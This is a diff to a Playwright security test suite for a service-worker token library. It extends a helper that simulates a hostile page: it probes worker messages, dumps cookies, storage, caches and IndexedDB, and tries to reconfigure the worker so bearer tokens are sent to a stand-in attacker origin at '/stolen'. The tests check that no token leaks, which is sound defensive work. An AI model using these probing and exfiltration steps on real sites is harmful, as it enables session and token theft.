@@ -3,7 +3,7 @@ import type { Page } from '@playwright/test';
 import { expect, test } from '../harness/fixtures.js';
 import { becomesActive, type Origin } from '../harness/origin.js';
 import type { Tab } from '../harness/tab.js';
-import { get, plain, script, stopWorkers } from './plain.js';
+import { elsewhere, get, plain, script, stopWorkers } from './plain.js';
 
 const sealed = { mode: 'sealed' } as const;
 const apisOf = (origin: Origin) => [{ origin: origin.server.origin, path: '/api' }];
@@ -30,8 +30,8 @@ const listen = (page: Page, name: string): Promise<void> =>
   }, name);
 
 /** Asks everybody who might answer with a token, in every word of the protocol. */
-const attack = (page: Page): Promise<void> =>
-  page.evaluate(async () => {
+const attack = (page: Page, evil: string): Promise<void> =>
+  page.evaluate(async (stranger) => {
     const { listener, note } = window as never as { listener: BroadcastChannel; note: (data: unknown) => void };
     const head = { protocol: 1, from: 'attacker', incarnation: 'any' };
     for (const body of [
@@ -43,11 +43,21 @@ const attack = (page: Page): Promise<void> =>
     ])
       listener.postMessage({ ...head, ...body });
     const worker = navigator.serviceWorker.controller!;
-    for (const type of ['CONFIGURE', 'CLAIM', 'REPORT', 'START', 'TOKEN_REQUEST', 'GET_TOKEN', '']) {
-      const { port1, port2 } = new MessageChannel();
-      port1.onmessage = ({ data }) => note(data);
-      worker.postMessage({ tabaton: 1, type, protocol: 1, from: 'attacker', incarnation: 'any', key: '|', have: 0 }, [port2]);
+    const say = (type: string, config?: object) =>
+      new Promise<void>((answered) => {
+        const { port1, port2 } = new MessageChannel();
+        port1.onmessage = ({ data }) => (note(data), answered());
+        setTimeout(answered, 5_000);
+        worker.postMessage({ tabaton: 1, type, config, protocol: 1, from: 'attacker', incarnation: 'any', key: '|', have: 0 }, [port2]);
+      });
+    for (const type of ['CLAIM', 'REPORT', 'START']) await say(type);
+    for (const type of ['CONFIGURE', 'TOKEN_REQUEST', 'GET_TOKEN', '']) void say(type);
+    const here = { origin: location.origin, path: '/api' };
+    for (const mode of ['attach', 'sealed']) {
+      await say('CONFIGURE', { endpoint: '/auth', apis: [here, { origin: stranger }], mode });
+      await fetch(`${stranger}/stolen`).catch(note);
     }
+    await say('CONFIGURE', { endpoint: '/auth', apis: [here], mode: 'attach' });
     for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) note({ cached: request.url, headers: [...request.headers] });
     for (const { name } of await indexedDB.databases()) {
       const db = await new Promise<IDBDatabase>((done) => {
@@ -66,9 +76,10 @@ const attack = (page: Page): Promise<void> =>
     note({ ...localStorage });
     note({ ...sessionStorage });
     note(document.cookie);
-    note((await fetch('/api/me')).headers.get('authorization'));
+    const answer = await fetch('/api/me');
+    note([answer.url, [...answer.headers], await answer.text()]);
     await new Promise((answers) => setTimeout(answers, 500));
-  });
+  }, evil);
 
 test('no door of a sealed session gives a page a token', async ({ origin }) => {
   const name = `tabaton/${origin.server.origin}/auth`;
@@ -78,13 +89,17 @@ test('no door of a sealed session gives a page a token', async ({ origin }) => {
   await listen(tab.page, name);
   expect(await get(tab.page)).toMatchObject({ status: 200, user: 'ada' });
 
-  await attack(tab.page);
+  const evil = await elsewhere();
+  await attack(tab.page, evil.origin);
   await stopWorkers(tab.page);
-  await attack(tab.page);
+  await attack(tab.page, evil.origin);
   origin.backend.rest();
   origin.server.api.expireAll();
   expect(await get(tab.page)).toMatchObject({ status: 200, user: 'ada' });
-  await attack(tab.page);
+  await attack(tab.page, evil.origin);
+  evil.server.close();
+  expect(evil.seen.length).toBe(6);
+  expect(evil.seen.filter(({ headers }) => headers.authorization)).toHaveLength(0);
 
   const heard = await Promise.all([early, tab.page].map((page) => page.evaluate(() => (window as never as { heard: string[] }).heard)));
   expect(heard.flat().join(), 'the session itself was heard of').toContain('TOKEN_HELD');
@@ -121,6 +136,43 @@ test('mixed modes count as sealed: a page that was not told holds nothing either
   expect(await other.run('peek')).toBeNull();
   expect(await other.run('api', '/api/me')).toMatchObject({ ok: true, value: { status: 200, user: 'ada' } });
   await becomesActive([other]);
+  expect(await other.run('registerWorker', { url: script })).toBe('active');
+  expect(await other.run('events', 'problem')).toMatchObject([{ event: { code: 'worker_refused' } }]);
+  expect(await get(other.page)).toMatchObject({ status: 200, user: 'ada' });
+});
+
+test('made quiet by a message it signs nothing, and opens to nobody; unregistered and registered anew it takes other APIs', async ({ origin }) => {
+  const tab = await signIn(origin);
+  const evil = await elsewhere();
+  const say = (config: object) =>
+    tab.page.evaluate(
+      (given) =>
+        new Promise<void>((answered) => {
+          const { port1, port2 } = new MessageChannel();
+          port1.onmessage = () => answered();
+          navigator.serviceWorker.controller!.postMessage({ tabaton: 1, type: 'CONFIGURE', config: given }, [port2]);
+        }),
+      config,
+    );
+  await say({ endpoint: '/auth', apis: [], mode: 'attach' });
+  expect((await get(tab.page)).status).toBe(401);
+  for (const stop of [false, true]) {
+    if (stop) await stopWorkers(tab.page);
+    await say({ endpoint: '/auth', apis: [{ origin: evil.origin }], mode: 'attach' });
+    await get(tab.page, `${evil.origin}/stolen`);
+  }
+  expect(evil.seen.map(({ headers }) => headers.authorization)).toEqual([undefined, undefined]);
+
+  await tab.run('unregisterWorker');
+  // A browser gives an unregistered worker up with its last page, and takes the old one again before.
+  await tab.close();
+  const wider = [...apisOf(origin), { origin: evil.origin }];
+  const after = await origin.open('after', { ...sealed, apis: wider });
+  expect(await after.run('registerWorker', { url: script })).toBe('active');
+  await get(after.page, `${evil.origin}/now`);
+  expect(evil.seen.at(-1)!.headers.authorization).toMatch(/^Bearer /);
+  expect(await after.run('events', 'problem')).toEqual([]);
+  evil.server.close();
 });
 
 test('an uncontrolled page asks to be taken over; where no worker can, it says not_controlled', async ({ origin }) => {
